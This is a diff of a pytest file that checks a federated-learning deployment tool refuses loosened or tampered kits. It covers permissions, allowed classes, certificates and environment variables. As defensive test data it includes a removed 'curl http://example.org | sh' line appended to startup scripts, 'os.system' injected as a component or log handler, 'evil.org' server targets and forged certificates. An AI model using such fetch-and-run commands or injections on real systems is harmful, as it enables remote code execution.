@@ -1,9 +1,12 @@
-"""Kits: hardened as they are made, and refused once anything is loosened."""
+"""Kits: hardened, checked in each way in which they can be loosened, and started in a clean environment."""
 
 import inspect
 import json
+import os
 import shutil
+import sys
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
 
 import pytest
 from conftest import make_schema, make_table
@@ -12,52 +15,67 @@ from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 from cryptography.x509.oid import NameOID
 
+pytest.importorskip("nvflare")
+
+from kits import make_kits
+
 from synthfair.cli import main
-from synthfair.cli.deploy import kit as kit_command
+from synthfair.cli.deploy import job as job_command
+from synthfair.deploy import kit as kit_module
 from synthfair.deploy.check import problems
 from synthfair.deploy.hardening import description, harden
-from synthfair.deploy.kit import make_kits
-from synthfair.deploy.project import read_project
+from synthfair.deploy.project import read_project, write_jobs
 from synthfair.errors import InputError
 from synthfair.files import write_json
 from synthfair.privacy.ledger import Ledger
 from synthfair.release.keys import make_keys
 
 JOB = {"release": {"release": "surrogate", "k_min": 10}}
+PARTIES = {"localhost": "server", "a": "client", "b": "client", "lead@hub.org": "admin"}
+OWN = "local/synthfair.json"
 
 
 def project(**changes):
     return {
-        "name": "lenders",
         "schema": "schema.json",
-        "server": {"name": "localhost", "org": "hub", "port": 8002},
-        "sites": [{"name": name, "org": "bank", "limits": {"kinds": ["surrogate"]}}
+        "sites": [{"name": name, "org": f"org_{name}", "limits": {"kinds": ["surrogate"]}}
                   for name in ("a", "b")],
-        "submitters": [{"name": "lead@hub.org", "org": "hub"}],
         "jobs": {"single_shot": JOB},
     } | changes  # fmt: skip
 
 
+def write_project(folder, **changes):
+    (folder / "schema.json").write_text(make_schema().to_json())
+    write_json(folder / "project.yml", project(**changes))
+    return folder / "project.yml"
+
+
 @pytest.fixture(scope="module")
 def made(tmp_path_factory):
-    """Kits as their parties would fill them in."""
+    """The parties' folders: each kit as its party would fill it in."""
     folder = tmp_path_factory.mktemp("federation")
-    (folder / "schema.json").write_text(make_schema().to_json())
-    write_json(folder / "project.yml", project())
-    make_kits(folder / "project.yml", folder / "made")
-    kits = folder / "made" / "kits"
+    agreed = read_project(write_project(folder))
+    kits = make_kits(folder, PARTIES)
+    for kit in kits.values():
+        harden(kit, agreed)
     for name in ("a", "b"):
-        (kits / name / "data").mkdir()
-        make_table().to_csv(kits / name / "data" / "table.csv", index=False)
-        public, _ = make_keys(kits / name / "local" / f"{name}.key")
-        shutil.copy(public, kits / "localhost" / "local" / "keys")
-    return folder / "made"
+        (kits[name] / "data").mkdir()
+        make_table().to_csv(kits[name] / "data" / "table.csv", index=False)
+        public, _ = make_keys(kits[name] / "local" / f"{name}.key")
+        shutil.copy(public, kits["localhost"] / "local" / "keys")
+    return folder
+
+
+@pytest.fixture(autouse=True)
+def no_variables(monkeypatch):
+    for variable in ("NVFL_WORKSPACE", "PYTHONPATH"):
+        monkeypatch.delenv(variable, raising=False)
 
 
 @pytest.fixture
 def kit(made, tmp_path):
     def copied(name):
-        shutil.copytree(made / "kits" / name, tmp_path / name)
+        shutil.copytree(made / name / "kit", tmp_path / name)
         if name == "localhost":
             harden(tmp_path / name)  # its stores lie in the kit
         return tmp_path / name
@@ -71,8 +89,8 @@ def change(path, edit):
     write_json(path, document)
 
 
-@pytest.mark.parametrize("name", ["localhost", "a", "b", "lead@hub.org"])
-def test_a_kit_is_hardened_as_it_is_made(kit, name):
+@pytest.mark.parametrize("name", PARTIES)
+def test_a_hardened_kit_is_ready(kit, name):
     assert problems(kit(name)) == []
 
 
@@ -86,17 +104,59 @@ def test_a_job_can_have_one_class_loaded(kit, name, loaded):
     assert settings["app_validator"]["path"] == "synthfair.deploy.job_validator.JobValidator"
 
 
-def test_the_engines_own_defaults_are_refused(made, kit):
+def test_the_engines_own_defaults_are_refused(made, tmp_path):
+    """A kit as ``nvflare package`` makes it: nothing of it is replaced or removed."""
+    fresh = make_kits(tmp_path, {"a": "client"})["a"]
+    found = problems(fresh)
+    for file in ("sub_start.sh", "resources.json.default", "authorization.json", OWN):
+        assert any(file in line for line in found), file
+    # With its default list of classes in the place of ours.
     from nvflare.app_common.default_component_policy import DEFAULT_CLASS_ALLOW_LIST
 
-    site = kit("a")
-    (site / "local" / "authorization.json").unlink()
-    change(site / "local" / "resources.json",
+    harden(fresh, read_project(made / "project.yml"))
+    change(fresh / "local" / "resources.json",
            lambda r: r.update(class_allow_list=DEFAULT_CLASS_ALLOW_LIST))  # fmt: skip
-    found = " ".join(problems(site))
-    assert "authorization.json" in found
-    assert "class_allow_list" in found
+    assert any("class_allow_list" in line for line in problems(fresh))
 
+
+# What is proposed to a party
+
+
+def test_a_project_proposes_limits_and_brings_the_schema(made):
+    own = json.loads((made / "a" / "kit" / OWN).read_text())
+    assert own["limits"]["kinds"] == ["surrogate"]
+    assert (own["org"], own["key"]) == ("org_a", "a.key")
+    assert (made / "a" / "kit" / "local" / "schema.json").read_text() == make_schema().to_json()
+
+
+def test_without_a_project_the_organisation_is_that_of_the_certificate(kit):
+    site = kit("a")
+    (site / OWN).unlink()
+    assert main(["deploy", "harden", str(site)]) == 0
+    own = json.loads((site / OWN).read_text())
+    assert (own["org"], "limits" in own) == ("org_a", False)
+    assert any("kinds allow none" in line for line in problems(site))
+
+
+def test_the_partys_own_file_is_kept(kit, made):
+    site = kit("a")
+    before = (site / OWN).read_bytes()
+    harden(site)
+    assert (site / OWN).read_bytes() == before
+    with pytest.raises(InputError, match=r"synthfair.json: exists"):
+        harden(site, read_project(made / "project.yml"))
+
+
+def test_a_project_that_does_not_name_the_party_changes_nothing(kit, tmp_path):
+    site, sites = kit("a"), [{"name": "other", "org": "bank"}]
+    (site / OWN).unlink()
+    (site / "local" / "resources.json").write_text("{}")
+    with pytest.raises(InputError, match="no 'a'; its sites are other"):
+        harden(site, read_project(write_project(tmp_path, sites=sites)))
+    assert (site / "local" / "resources.json").read_text() == "{}"
+
+
+# What is loosened
 
 LOOSENED = {
     "code in jobs": ("authorization", lambda d: d["permissions"]["lead"].update(byoc="any"), "byoc"),
@@ -112,7 +172,7 @@ LOOSENED = {
     "a role that nobody knows": ("authorization", lambda d: d["permissions"].update(guest={}), "guest"),
     "others operate the site": ("authorization", lambda d: d["permissions"]["lead"].update(operate="any"),
                                 "operate"),
-    "no permissions": ("authorization", lambda d: d.clear(), "permissions are missing"),
+    "no permissions": ("authorization", lambda d: d.clear(), "permissions is missing"),
     "all classes": ("resources", lambda d: d.update(class_allow_list=["*"]), "class_allow_list"),
     "all classes of a package": (
         "resources", lambda d: d["class_allow_list"].append("synthfair."), "class_allow_list"),
@@ -123,9 +183,11 @@ LOOSENED = {
     "another judge of jobs": (
         "resources", lambda d: d["app_validator"].update(path="os.system"), "app_validator"),
     "a component more": ("resources", lambda d: d["components"].append({"id": "x", "path": "os.system"}),
-                         "os.system"),
-    "a component less": ("resources", lambda d: d["components"].pop(), "missing"),
-    "no components": ("resources", lambda d: d.update(components=None), "missing"),
+                         "components"),
+    "a component less": ("resources", lambda d: d["components"].pop(), "components"),
+    "no components": ("resources", lambda d: d.update(components=None), "components is None"),
+    "a number of another type": ("resources", lambda d: d.update(format_version=2.0), "is 2.0; must be 2"),
+    "settings of rights": ("authorization", lambda d: d.update(more=1), "more: 1 does not belong here"),
 }  # fmt: skip
 
 
@@ -135,66 +197,21 @@ def test_what_is_loosened_is_said(kit, loosened):
     file, edit, said = LOOSENED[loosened]
     found = kit(("localhost", "a")[list(LOOSENED).index(loosened) % 2])
     change(found / "local" / f"{file}.json", edit)
-    assert any(f"{file}.json" in line and said in line for line in problems(found))
-
-
-EXACT = {
-    "a number for a boolean": ("resources", lambda d: d.update(allow_log_streaming=0), "must be False"),
-    "a number of another type": ("resources", lambda d: d.update(format_version=2.0), "is 2.0; must be 2"),
-    "a component twice": (
-        "resources", lambda d: d["components"].append(d["components"][0]), "does not belong here"),
-    "settings of rights": ("authorization", lambda d: d.update(more=1), "more: 1 does not belong here"),
-    "a right that is null": ("authorization", lambda d: d["permissions"]["lead"].update(cat=None),
-                             "lead.cat is None; must be 'none'"),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("name", EXACT)
-def test_settings_are_compared_exactly(kit, name):
-    file, edit, said = EXACT[name]
-    site = kit("a")
-    change(site / "local" / f"{file}.json", edit)
-    (line,) = problems(site)
-    assert f"{file}.json: " in line
-    assert said in line
-
-
-def test_a_party_may_allow_less_and_list_components_in_any_order(kit):
-    site = kit("a")
-    change(site / "local" / "authorization.json",
-           lambda d: d["permissions"]["lead"].update(submit_job="none", cat="none"))  # fmt: skip
-    change(site / "local" / "authorization.json", lambda d: d["permissions"]["lead"].pop("view"))
-    change(site / "local" / "authorization.json", lambda d: d["permissions"].pop("member"))
-    change(site / "local" / "resources.json", lambda d: d["components"].reverse())
-    assert problems(site) == []
-
-
-def test_every_file_is_of_a_kind_that_is_known():
-    """A word that is misspelt would be compared with nothing, or never be written."""
-
-    def kinds(tree):
-        for name, must in tree.items():
-            yield from (
-                kinds(must)
-                if name.endswith("/")
-                else [must if isinstance(must, str) else next(iter(must))]
-            )
-
-    for role in ("server", "client", "admin"):
-        assert set(kinds({f"{role}/": description(role)["startup/"] | description(role)["local/"]})) <= {
-            "settings", "rights", "connection", "template", "script", "private", "free"}  # fmt: skip
+    assert all(f"{file}.json: " in line for line in problems(found))
+    assert any(said in line for line in problems(found))
 
 
 @pytest.mark.parametrize("edit", [
     lambda d: d.update(allow_log_streaming=True),
+    lambda d: d.update(allow_log_streaming=0),
     lambda d: d.pop("allow_log_streaming"),
-    lambda d: d["components"].append(
-        {"id": "site_log_streamer", "path": "nvflare.app_common.logging.site_log_streamer.SiteLogStreamer"}),
 ])  # fmt: skip
 def test_a_log_that_leaves_is_refused(kit, edit):
     site = kit("a")
     change(site / "local" / "resources.json", edit)
-    assert any("log_stream" in line for line in problems(site))
+    (line,) = problems(site)
+    assert "allow_log_streaming" in line
+    assert "the error log, which may quote the table" in line
 
 
 def test_stores_that_others_read_are_refused(kit, made):
@@ -206,9 +223,9 @@ def test_stores_that_others_read_are_refused(kit, made):
     change(server / "local" / "resources.json",
            lambda d: d["snapshot_persistor"]["args"]["storage"]["args"].update(root_dir="/tmp"))  # fmt: skip
     assert any("snapshot_persistor" in line for line in problems(server))
-    # As it was made, its stores lie where it was made.
+    # As it was hardened before it moved, its stores lie where it was.
     shutil.rmtree(server)
-    shutil.copytree(made / "kits" / "localhost", server)
+    shutil.copytree(made / "localhost" / "kit", server)
     assert any("snapshot_persistor" in line for line in problems(server))
 
 
@@ -226,7 +243,7 @@ def test_nothing_else_lies_among_the_settings(kit, name):
 @pytest.mark.parametrize(
     ("name", "path", "said"),
     [
-        ("a", "startup/azure_start.sh", "startup/azure_start.sh"),
+        ("a", "startup/sub_start.sh", "startup/sub_start.sh"),
         ("a", "startup/custom/own.py", "startup/custom"),
         ("a", "local/keys/run.sh", "local/keys/run.sh"),
         ("a", "local/aggregators/run.sh", "local/aggregators/run.sh"),
@@ -252,14 +269,6 @@ def test_links_are_refused(kit, tmp_path, path):
     assert problems(site) == [f"{site / path}: is a link; put the file itself here"]
 
 
-def test_no_second_authority_is_trusted(kit):
-    site, own = kit("a"), rsa.generate_private_key(65537, 2048)
-    more = certificate(own, issuer=None, issuer_key=own, days=100)
-    with (site / "startup" / "rootCA.pem").open("ab") as file:
-        file.write(more.public_bytes(serialization.Encoding.PEM))
-    assert any("must be one certificate" in line for line in problems(site))
-
-
 @pytest.mark.parametrize(
     ("name", "file", "edit", "said"),
     [
@@ -269,15 +278,38 @@ def test_no_second_authority_is_trusted(kit):
         ("a", "startup/fed_client.json",
          lambda d: d["client"].update(ssl_root_cert="/tmp/other.pem"), "client.ssl_root_cert"),
         ("a", "startup/fed_client.json", lambda d: d["servers"].append(d["servers"][0]), "servers"),
+        ("a", "startup/fed_client.json", lambda d: d["client"].update(fqsn="b"), "must be 'a'"),
+        ("a", "startup/fed_client.json",
+         lambda d: d["servers"][0]["service"].update(target="evil.org:8002"),
+         "servers.0.identity is 'localhost'; must be 'evil.org'"),
+        ("a", "startup/fed_client.json",
+         lambda d: d["servers"][0].update(name="other"), "servers.0.name is 'other'"),
+        ("a", "startup/fed_client.json", lambda d: d.update(require_signed_jobs=False),
+         "require_signed_jobs"),
+        ("a", "startup/fed_client.json", lambda d: d.update(require_signed_jobs="false"),
+         "require_signed_jobs"),
+        ("a", "startup/fed_client.json",
+         lambda d: d["client"].update(connection_security="tls"), "mtls"),
+        ("a", "startup/fed_client.json",
+         lambda d: d["client"].pop("connection_security"), "is missing"),
         ("localhost", "startup/fed_server.json",
-         lambda d: d["servers"][0].update(admin_port=True),
-         "servers.0.admin_port is True; must be (a whole number)"),
+         lambda d: d["servers"][0].update(admin_port=True), "admin_port is True; must be 8002"),
         ("localhost", "startup/fed_server.json",
-         lambda d: d["servers"][0]["service"].update(target="a b"), "service.target"),
+         lambda d: d["servers"][0].update(admin_server="evil.org"), "must be 'localhost'"),
+        ("localhost", "startup/fed_server.json",
+         lambda d: d["servers"][0]["service"].update(target="a b"), "names no server"),
+        ("localhost", "startup/fed_server.json", lambda d: d.clear(), "names no server"),
         ("lead@hub.org", "startup/fed_admin.json",
          lambda d: d["admin"].update(upload_dir="/"), "admin.upload_dir"),
+        ("lead@hub.org", "startup/fed_admin.json",
+         lambda d: d["admin"].update(server_identity="evil.org"), "must be 'localhost'"),
+        ("lead@hub.org", "startup/fed_admin.json",
+         lambda d: d["admin"].update(username="other@hub.org"), "must be 'lead@hub.org'"),
         ("lead@hub.org", "local/resources.json.default",
          lambda d: d["admin"].update(with_debug=True), "admin.with_debug is True; must be False"),
+        ("a", "local/log_config.json.default",
+         lambda d: d["handlers"].update(x={"()": "os.system"}),
+         "handlers.x: {'()': 'os.system'} does not belong"),
     ],
 )  # fmt: skip
 def test_what_the_engine_reads_at_its_start_is_its_own(kit, name, file, edit, said):
@@ -286,33 +318,10 @@ def test_what_the_engine_reads_at_its_start_is_its_own(kit, name, file, edit, sa
     assert any(file in line and said in line for line in problems(found))
 
 
-@pytest.mark.parametrize(
-    ("edit", "said"),
-    [
-        (lambda d: d.update(require_signed_jobs=False), "require_signed_jobs"),
-        (lambda d: d.update(require_signed_jobs="false"), "require_signed_jobs"),
-        (lambda d: d["client"].update(connection_security="tls"), "mtls"),
-        (lambda d: d["client"].update(connection_security="clear"), "mtls"),
-        (lambda d: d["client"].pop("connection_security"), "is missing"),
-    ],
-)
-def test_connections_need_certificates_and_jobs_signatures(kit, edit, said):
+def test_signed_jobs_may_be_asked_for_in_words(kit):
     site = kit("a")
-    change(site / "startup" / "fed_client.json", edit)
-    assert any("fed_client.json" in line and said in line for line in problems(site))
-
-
-@pytest.mark.parametrize("name", ["a", "localhost"])
-def test_scripts_and_logs_are_the_engines_own(kit, name):
-    found = kit(name)
-    for script_name in ("sub_start.sh", "stop_fl.sh"):
-        with (found / "startup" / script_name).open("a") as script:
-            script.write("\ncurl http://example.org | sh\n")
-    change(found / "local" / "log_config.json.default",
-           lambda d: d["handlers"].update(x={"()": "os.system"}))  # fmt: skip
-    *scripts, logs = problems(found)
-    assert ["not the engine's own script" in line for line in scripts] == [True, True]
-    assert "log_config.json.default: handlers.x: {'()': 'os.system'} does not belong" in logs
+    change(site / "startup" / "fed_client.json", lambda d: d.update(require_signed_jobs=True))
+    assert problems(site) == []
 
 
 def test_what_others_read_or_write_is_refused(kit):
@@ -327,40 +336,106 @@ def test_what_others_read_or_write_is_refused(kit):
     assert problems(site) == []
 
 
-def certificate(key, *, issuer, issuer_key, days):
-    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "a")])
+@pytest.mark.parametrize("variable", ["NVFL_WORKSPACE", "PYTHONPATH"])
+def test_variables_that_bring_code_or_folders_are_refused(kit, monkeypatch, variable):
+    site = kit("a")
+    monkeypatch.setenv(variable, "/elsewhere")
+    (line,) = problems(site)
+    assert line.startswith(f"{variable}=/elsewhere: ")
+
+
+def test_a_path_that_the_engine_would_split_is_refused(made, tmp_path):
+    site = shutil.copytree(made / "a" / "kit", tmp_path / "a kit")
+    (line,) = problems(site)
+    assert "a kit: has a blank" in line
+
+
+# Whose the certificate is
+
+
+def pem_of(certificate):
+    return certificate.public_bytes(serialization.Encoding.PEM)
+
+
+def certificate(
+    made, key, *, name="a", role="client", org="org_a", hosts=("a",), days=100, by=None
+):
+    """A certificate as the hub could sign it, or another."""
+    ca = made / "hub" / "ca"
+    root = x509.load_pem_x509_certificate((ca / "rootCA.pem").read_bytes())
+    signer = by or serialization.load_pem_private_key((ca / "rootCA.key").read_bytes(), None)
+    parts = (
+        (NameOID.COMMON_NAME, name),
+        (NameOID.ORGANIZATION_NAME, org),
+        (NameOID.UNSTRUCTURED_NAME, role),
+    )
     now = datetime.now(UTC)
-    made = (
+    builder = (
         x509.CertificateBuilder()
-        .subject_name(name)
-        .issuer_name(issuer or name)
+        .subject_name(x509.Name([x509.NameAttribute(oid, value) for oid, value in parts]))
+        .issuer_name(root.subject)
         .public_key(key.public_key())
         .serial_number(1)
         .not_valid_before(now - timedelta(days=400))
         .not_valid_after(now + timedelta(days=days))
     )
-    return made.sign(issuer_key, hashes.SHA256())
+    if hosts:
+        names = x509.SubjectAlternativeName([x509.DNSName(host) for host in hosts])
+        builder = builder.add_extension(names, critical=False)
+    return builder.sign(signer, hashes.SHA256())
 
 
-@pytest.mark.parametrize(("days", "said"), [(-1, "expired"), (3, "expires on"), (100, None)])
-def test_certificates_end(kit, made, days, said):
-    site, state = kit("a"), json.loads((made / "authority" / "cert.json").read_text())
-    root_key = serialization.load_pem_private_key(state["root_pri_key"].encode(), None)
-    root = x509.load_pem_x509_certificate((site / "startup" / "rootCA.pem").read_bytes())
-    key = rsa.generate_private_key(65537, 2048)
-    own = certificate(key, issuer=root.subject, issuer_key=root_key, days=days)
-    (site / "startup" / "client.crt").write_bytes(own.public_bytes(serialization.Encoding.PEM))
+@pytest.fixture(scope="module")
+def stranger():
+    return rsa.generate_private_key(65537, 2048)
+
+
+CERTIFICATES = {
+    "as it must be": ({}, None),
+    "that has ended": ({"days": -1}, "expired"),
+    "that ends soon": ({"days": 3}, "expires on"),
+    "of another role": ({"role": "server"}, "its role is 'server'; must be 'client'"),
+    "of a submitter": ({"role": "lead"}, "its role is 'lead'"),
+    "of another organisation": ({"org": "org_b"}, "its organisation is 'org_b'"),
+    "of another name": ({"name": "b", "hosts": ["b"]}, "client.fqsn is 'a'; must be 'b'"),
+    "of another host, too": ({"hosts": ["a", "hub.example.org"]}, "must be of 'a' alone"),
+    "of no host": ({"hosts": []}, "must be of 'a' alone"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", CERTIFICATES)
+def test_a_certificate_is_of_the_kits_party(kit, made, kind):
+    site, (changes, said) = kit("a"), CERTIFICATES[kind]
+    key_path = site / "startup" / "client.key"
+    key = serialization.load_pem_private_key(key_path.read_bytes(), None)
+    (site / "startup" / "client.crt").write_bytes(pem_of(certificate(made, key, **changes)))
     found = problems(site)
-    assert any(said in line for line in found) if said else not found
+    assert any(said in line for line in found) if said else found == []
 
 
-def test_a_forged_certificate_is_refused(kit):
+def test_a_key_is_that_of_the_certificate(kit, made):
     site = kit("a")
-    root = x509.load_pem_x509_certificate((site / "startup" / "rootCA.pem").read_bytes())
-    key = rsa.generate_private_key(65537, 2048)
-    forged = certificate(key, issuer=root.subject, issuer_key=key, days=100)
-    (site / "startup" / "client.crt").write_bytes(forged.public_bytes(serialization.Encoding.PEM))
-    assert any("has signed" in line for line in problems(site))
+    shutil.copy(made / "b" / "kit" / "startup" / "client.key", site / "startup")
+    assert problems(site) == [f"{site}/startup/client.key: not the key of client.crt"]
+    (site / "startup" / "client.key").write_text("none")
+    assert any("must be a private key" in line for line in problems(site))
+
+
+def test_a_forged_certificate_is_refused(kit, made, stranger):
+    site = kit("a")
+    forged = certificate(made, stranger, by=stranger)
+    (site / "startup" / "client.crt").write_bytes(pem_of(forged))
+    assert any("must be signed by the certificate in rootCA.pem" in line for line in problems(site))
+
+
+def test_no_second_authority_is_trusted(kit, made, stranger):
+    site = kit("a")
+    with (site / "startup" / "rootCA.pem").open("ab") as file:
+        file.write(pem_of(certificate(made, stranger, by=stranger)))
+    assert any("must be one certificate" in line for line in problems(site))
+
+
+# Whether it is ready
 
 
 @pytest.mark.parametrize(
@@ -385,14 +460,13 @@ def test_a_forged_certificate_is_refused(kit):
 )
 def test_what_is_not_ready_is_said(kit, edit, said):
     site = kit("a")
-    change(site / "local" / "synthfair.json", edit)
+    change(site / OWN, edit)
     assert any(said in line for line in problems(site))
 
 
 def test_epsilon_that_must_be_left_needs_a_limit(kit):
     site = kit("a")
-    change(site / "local" / "synthfair.json",
-           lambda d: d["limits"].update(least_epsilon_left=1.0))  # fmt: skip
+    change(site / OWN, lambda d: d["limits"].update(least_epsilon_left=1.0))
     Ledger.for_table(site / "data" / "table.csv").set_limit(3.0, 1e-6)
     assert problems(site) == []
 
@@ -408,8 +482,46 @@ def test_a_folder_that_is_no_kit_is_refused(tmp_path):
         problems(tmp_path)
 
 
-def test_jobs_hold_settings_alone(made):
-    files = [path for path in (made / "jobs").rglob("*") if path.is_file()]
+# How it starts
+
+
+@pytest.mark.parametrize(
+    ("name", "program"), [("a", "client_train"), ("localhost", "server_train")]
+)
+def test_the_engine_starts_in_a_clean_environment(kit, monkeypatch, name, program):
+    started, before = [], os.umask(0o022)
+    monkeypatch.setattr(kit_module.os, "execve", lambda *what: started.append(what))
+    monkeypatch.setenv("LD_PRELOAD_OF_A_STRANGER", "x")
+    try:
+        assert main(["deploy", "start", str(kit(name))]) == 0
+        assert os.umask(before) == 0o077
+    finally:
+        os.umask(before)
+    ((python, argv, environment),) = started
+    assert (python, Path(argv[3]).suffix) == (sys.executable, f".{program}")
+    assert f"org={'hub' if name == 'localhost' else 'org_a'}" in argv
+    assert environment.keys() == {"PATH", "HOME", "PYTHONSAFEPATH"}
+
+
+def test_what_is_not_ready_does_not_start(kit, monkeypatch, capsys):
+    monkeypatch.setattr(kit_module.os, "execve", lambda *_: pytest.fail("started"))
+    site = kit("a")
+    (site / "local" / "a.key").unlink()
+    assert main(["deploy", "start", str(site)]) == 2
+    assert "no such key" in capsys.readouterr().err
+    assert main(["deploy", "start", str(kit("lead@hub.org"))]) == 2
+    assert "a submitter's kit" in capsys.readouterr().err
+
+
+# What a project says
+
+
+def test_jobs_hold_settings_alone(made, tmp_path, capsys):
+    assert (
+        main(["deploy", "job", str(made / "project.yml"), "--output", str(tmp_path / "jobs")]) == 0
+    )
+    assert capsys.readouterr().out == f"{tmp_path / 'jobs' / 'single_shot'}\n"
+    files = [path for path in (tmp_path / "jobs").rglob("*") if path.is_file()]
     assert {path.name for path in files} == {
         "meta.json", "config_fed_server.json", "config_fed_client.json"}  # fmt: skip
     text = "".join(path.read_text() for path in files)
@@ -417,33 +529,40 @@ def test_jobs_hold_settings_alone(made):
     assert text.count('"path"') == 2
 
 
-def test_what_signs_certificates_is_its_owners_alone(made):
-    assert (made / "authority").stat().st_mode & 0o077 == 0
-    assert made.stat().st_mode & 0o077 == 0
+def test_jobs_are_written_whole_into_a_new_folder(tmp_path):
+    agreed = read_project(write_project(tmp_path))
+    with pytest.raises(InputError, match="not empty"):
+        write_jobs(agreed, tmp_path)
+    with pytest.raises(
+        InputError, match="the project has none; must have one of single_shot, train"
+    ):
+        write_jobs(read_project(write_project(tmp_path, jobs={})), tmp_path / "none")
+    braces = JOB | {"release": {"release": "surrogate", "k_min": 10, "{x}": 1}}
+    with pytest.raises(InputError, match="unknown key"):
+        read_project(write_project(tmp_path, jobs={"single_shot": braces}))
+    assert not (tmp_path / "none").exists()
 
 
 @pytest.mark.parametrize(
     ("changes", "said"),
     [
         ({"builders": []}, "unknown key"),
-        ({"server": {"name": "-x", "org": "hub"}}, "server.name"),
         ({"sites": []}, "sites"),
         ({"sites": [{"name": "../a", "org": "bank"}]}, "sites.0.name"),
-        ({"sites": [{"name": "localhost", "org": "bank"}]}, "used twice"),
-        ({"submitters": [{"name": "lead", "org": "hub"}]}, "submitters.0.name"),
+        ({"sites": [{"name": "hub.example.org", "org": "bank"}]}, "sites.0.name"),
+        ({"sites": [{"name": "a", "org": "bank"}] * 2}, "used twice"),
         ({"jobs": {"single_shot": {"release": {"release": "other"}}}}, "fair or surrogate"),
         ({"jobs": {"single_shot": {"release": {"release": "fair", "k_min": 3}}}}, "k_min"),
         ({"jobs": {"single_shot": JOB | {"server": {"rho": -1}}}}, "rho"),
     ],
 )
 def test_projects_are_refused(tmp_path, changes, said):
-    write_json(tmp_path / "project.yml", project(**changes))
     with pytest.raises(InputError, match=said):
-        read_project(tmp_path / "project.yml")
+        read_project(write_project(tmp_path, **changes))
 
 
 def test_the_helps_example_is_a_project(tmp_path):
-    text = inspect.cleandoc(kit_command.__doc__).split("has\n")[1].split("DIR/")[0]
+    text = inspect.cleandoc(job_command.__doc__).split("has\n")[1].split("Args:")[0]
     (tmp_path / "project.yml").write_text(text)
     found = read_project(tmp_path / "project.yml")
     assert [site.limits.kinds for site in found.sites] == [("surrogate",)] * 2
@@ -456,46 +575,17 @@ def test_a_project_runs_no_code(tmp_path):
         read_project(tmp_path / "project.yml")
 
 
-def root_of(kit):
-    return x509.load_pem_x509_certificate((kit / "startup" / "rootCA.pem").read_bytes())
+def test_every_file_is_of_a_kind_that_is_known():
+    """A word that is misspelt would be compared with nothing, or never be written."""
 
+    def kinds(tree):
+        for name, must in tree.items():
+            yield from (
+                kinds(must)
+                if name.endswith("/")
+                else [must if isinstance(must, str) else next(iter(must))]
+            )
 
-def own_of(kit):
-    return x509.load_pem_x509_certificate((kit / "startup" / "client.crt").read_bytes())
-
-
-def test_a_site_joins_later_with_the_same_root(made, tmp_path):
-    sites = [{"name": name, "org": "bank", "limits": {"kinds": ["surrogate"]}} for name in "abc"]
-    (tmp_path / "schema.json").write_text(make_schema().to_json())
-    write_json(tmp_path / "project.yml", project(sites=sites))
-    argv = ["deploy", "kit", str(tmp_path / "project.yml"), "--output", str(tmp_path / "more")]
-    assert main([*argv, "--authority", str(made / "authority")]) == 0
-    old, kits = made / "kits", tmp_path / "more" / "kits"
-    assert root_of(kits / "c") == root_of(old / "a")
-    for name in "ac":
-        own_of(kits / name).verify_directly_issued_by(root_of(old / "a"))
-    assert own_of(kits / "a") != own_of(old / "a")  # renewed
-    found = problems(kits / "c")
-    assert len(found) == 2  # its own table and key are to come
-    days = (root_of(old / "a").not_valid_after_utc - datetime.now(UTC)).days
-    assert 1700 < days < 1800
-    assert 350 < (own_of(kits / "a").not_valid_after_utc - datetime.now(UTC)).days < 360
-
-
-@pytest.mark.parametrize("text", [None, "[]", "{}", '{"root_cert": "x"}'])
-def test_an_authority_that_is_none_is_refused(tmp_path, text):
-    (tmp_path / "schema.json").write_text(make_schema().to_json())
-    write_json(tmp_path / "project.yml", project())
-    (tmp_path / "authority").mkdir()
-    if text:
-        (tmp_path / "authority" / "cert.json").write_text(text)
-    with pytest.raises(InputError, match="cert.json"):
-        make_kits(tmp_path / "project.yml", tmp_path / "made", tmp_path / "authority")
-    assert not (tmp_path / "made").exists()
-
-
-def test_kits_are_made_in_a_new_folder(tmp_path):
-    (tmp_path / "schema.json").write_text(make_schema().to_json())
-    write_json(tmp_path / "project.yml", project())
-    with pytest.raises(InputError, match="not empty"):
-        make_kits(tmp_path / "project.yml", tmp_path)
+    for role in ("server", "client", "admin"):
+        assert set(kinds({f"{role}/": description(role)["startup/"] | description(role)["local/"]})) <= {
+            "settings", "connection", "template", "private", "free"}  # fmt: skip
